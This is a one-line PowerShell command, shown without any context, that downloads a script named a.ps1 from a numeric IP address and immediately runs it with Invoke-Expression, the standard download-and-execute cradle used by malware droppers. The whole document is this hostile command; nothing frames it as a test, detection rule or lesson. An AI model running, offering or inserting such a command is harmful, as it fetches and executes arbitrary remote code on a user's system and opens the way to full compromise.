$c = (New-Object System.Net.WebClient).DownloadString("http://203.0.113.4/a.ps1"); Invoke-Expression $c
